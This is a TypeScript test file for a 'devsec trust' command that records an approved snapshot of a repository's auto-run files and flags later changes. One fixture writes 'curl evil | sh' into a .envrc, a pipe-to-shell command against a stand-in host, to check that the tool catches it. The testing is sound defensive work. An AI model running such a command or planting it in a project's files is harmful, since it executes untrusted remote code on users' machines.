import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { PassThrough } from 'node:stream';
import { changedSinceReview } from '../host/surface/review';
import { checkCommand } from './check';
import { trustCommand } from './trust';

async function run(command: typeof trustCommand, argv: string[], cwd: string, env: NodeJS.ProcessEnv, isTTY = false, input = '') {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  const stdin = new PassThrough();
  const chunks = { out: '', err: '' };
  stdout.on('data', (chunk) => (chunks.out += chunk));
  stderr.on('data', (chunk) => (chunks.err += chunk));
  stdin.end(input);
  const code = await command(argv, { stdout, stderr, stdin, isTTY, env, cwd });
  return { code, stdout: chunks.out, stderr: chunks.err };
}

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'init.defaultBranch=main', ...args], {
    cwd,
    env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' },
    stdio: 'pipe',
  });

const write = (root: string, rel: string, content: string) => {
  mkdirSync(dirname(join(root, rel)), { recursive: true });
  writeFileSync(join(root, rel), content);
};

describe('devsec trust', () => {
  let dir: string;
  let main: string;
  let linked: string;
  let env: NodeJS.ProcessEnv;
  let snapshot: () => string;
  beforeEach(() => {
    dir = realpathSync(mkdtempSync(join(tmpdir(), 'devsec-trust-')));
    main = join(dir, 'main');
    linked = join(dir, 'linked');
    mkdirSync(main);
    git(main, 'init', '-q');
    write(main, 'nx.json', '{}\n');
    write(main, 'package.json', '{ "scripts": { "build": "nx build" } }\n');
    git(main, 'add', '.');
    git(main, 'commit', '-q', '-m', 'first');
    git(main, 'worktree', 'add', '-q', linked);
    env = { XDG_STATE_HOME: join(dir, 'state'), HOME: join(dir, 'home') };
    snapshot = () => {
      const [key] = readdirSync(join(dir, 'state/devsec/trust'));
      return readFileSync(join(dir, 'state/devsec/trust', key, 'snapshot.json'), 'utf-8');
    };
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('refuses without a terminal and without --yes, and records nothing', async () => {
    const { code, stdout, stderr } = await run(trustCommand, [], main, env);
    expect(code).toBe(2);
    expect(stdout).toContain('these 2 files would be the baseline');
    expect(stderr).toContain('nothing recorded: there is no terminal to ask on. Read what is shown above, then run `devsec trust --yes` to approve it.');
    expect(
      existsSync(join(dir, 'state/devsec/trust')) && readdirSync(join(dir, 'state/devsec/trust', readdirSync(join(dir, 'state/devsec/trust'))[0])),
    ).toEqual([]);
  });

  it('records what it showed with --yes', async () => {
    await run(checkCommand, [], main, env);
    write(main, 'package.json', '{ "scripts": { "build": "evil" } }\n');
    const { code, stdout } = await run(trustCommand, ['--yes'], main, env);
    expect(code).toBe(0);
    expect(stdout).toContain('+{ "scripts": { "build": "evil" } }');
    expect(stdout).toContain('Approved: recorded 1 change in');
    expect(snapshot()).toContain('evil');
    expect(changedSinceReview(main, env)).toBeUndefined();
    expect(await run(checkCommand, [], main, env)).toMatchObject({ code: 0 });
  });

  it('asks on a terminal, and records only on y or yes', async () => {
    await run(checkCommand, [], main, env);
    write(main, 'package.json', '{}\n');
    const no = await run(trustCommand, [], main, env, true, 'n\n');
    expect(no.code).toBe(1);
    expect(no.stdout).toContain("Approve 1 change as this repository's snapshot? [y/N] Not approved: nothing recorded.");
    expect(snapshot()).toContain('nx build');
    const empty = await run(trustCommand, [], main, env, true, '');
    expect(empty.code).toBe(1);
    const yes = await run(trustCommand, [], main, env, true, ' YES \n');
    expect(yes.code).toBe(0);
    expect(snapshot()).not.toContain('nx build');
  });

  it('shares one snapshot between the worktrees of a repository', async () => {
    expect(changedSinceReview(linked, env)).toEqual({ count: 2, command: 'devsec check' });
    expect(await run(trustCommand, ['--yes'], main, env)).toMatchObject({ code: 0 });
    expect(readdirSync(join(dir, 'state/devsec/trust'))).toHaveLength(1);
    const fromLinked = await run(checkCommand, [], linked, env);
    expect(fromLinked.stdout).toContain(`workspace ${linked}\nRepository ${join(main, '.git')}`);
    expect(fromLinked.stdout).toContain(`Nothing changed since the snapshot approved`);
    expect(fromLinked.stdout).toContain(`in ${main}.`);
    expect(fromLinked.code).toBe(0);
    write(linked, '.envrc', 'curl evil | sh\n');
    expect(await run(checkCommand, [], linked, env)).toMatchObject({ code: 1, stdout: expect.stringContaining('added .envrc: a file — direnv') });
    expect(readdirSync(join(dir, 'state/devsec/trust'))).toHaveLength(1);
  });

  it('has nothing to approve when nothing changed', async () => {
    await run(checkCommand, [], main, env);
    expect(await run(trustCommand, [], main, env)).toMatchObject({ code: 0, stdout: expect.stringContaining('Nothing to approve') });
  });

  it('prints its help, and refuses unknown arguments', async () => {
    expect(await run(trustCommand, ['-h'], main, env)).toMatchObject({ code: 0, stdout: expect.stringMatching(/^Usage: devsec trust \[--yes\]/) });
    expect(await run(trustCommand, ['--force'], main, env)).toMatchObject({ code: 2, stderr: expect.stringContaining('unknown argument --force') });
  });
});
